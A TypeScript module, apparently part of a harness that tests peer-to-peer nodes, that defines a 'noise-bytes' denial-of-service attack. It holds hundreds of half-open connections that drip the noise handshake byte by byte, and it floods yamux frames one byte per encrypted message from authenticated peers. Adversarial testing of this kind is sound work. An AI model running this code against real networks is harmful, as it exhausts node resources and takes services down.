import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, sentByAll, type Target } from '../attack.ts';
import { keepUsing } from '../raw-socket.ts';
import { connectRawStranger, yamuxHeader } from '../raw-stranger.ts';
import { firstMessage, OPENING } from './half-open.ts';

const CONNECTIONS = 200;
const STRANGERS = 4;
const BYTE_MS = 5;
/** Messages that are sent before the event loop gets a turn. */
const BURST = 200;
/** A yamux frame of data on a stream that nobody opened. */
const FRAME = Buffer.concat([yamuxHeader(0, 0, 1, 4), new Uint8Array(4)]);

/** A message of the handshake with one byte in it. */
const SHORT = Uint8Array.of(0, 1, 7);

/** Authenticates itself, and then sends frames byte by byte, each byte in a message of noise. */
const flood = async ({ p2p }: Target, signal: AbortSignal): Promise<number> => {
  let sent = 0;
  while (!signal.aborted) {
    const stranger = await connectRawStranger(p2p.multiaddr).catch(() => undefined);
    for (let at = 0; stranger?.isConnected() && !signal.aborted; ) {
      let hasRoom = true;
      for (const end = at + BURST; at < end && stranger.encrypted.status === 'open'; at++) {
        hasRoom = stranger.encrypted.send(FRAME.subarray(at % FRAME.length, (at % FRAME.length) + 1));
        sent += 1;
      }
      // A node that does not read is left alone for a moment, so that the attacker's memory does not grow.
      await sleep(hasRoom ? 1 : 20);
    }
    await stranger?.stop();
    await sleep(20);
  }
  return sent;
};

export const attack: Attack = {
  name: 'noise-bytes',
  what: `${CONNECTIONS} connections to each node send messages of noise of one byte, or the handshake byte by byte, and ${STRANGERS} authenticated strangers send a byte in each message.`,
  run: async ({ targets }, signal) => {
    const halfOpen = keepUsing(targets, CONNECTIONS, signal, (socket, i) => {
      socket.setNoDelay(true);
      socket.write(OPENING);
      const bytes = i % 2 === 0 ? Buffer.concat([firstMessage(), firstMessage()]) : SHORT;
      let at = 0;
      const drip = setInterval(() => {
        if (i % 2 === 0) socket.write(bytes.subarray(at % bytes.length, (at % bytes.length) + 1));
        else socket.write(bytes);
        at += 1;
      }, BYTE_MS);
      socket.once('close', () => clearInterval(drip));
    });
    const floods = targets.flatMap((target) =>
      Array.from({ length: STRANGERS }, () => flood(target, signal)),
    );
    return sentByAll([halfOpen, ...floods]);
  },
};
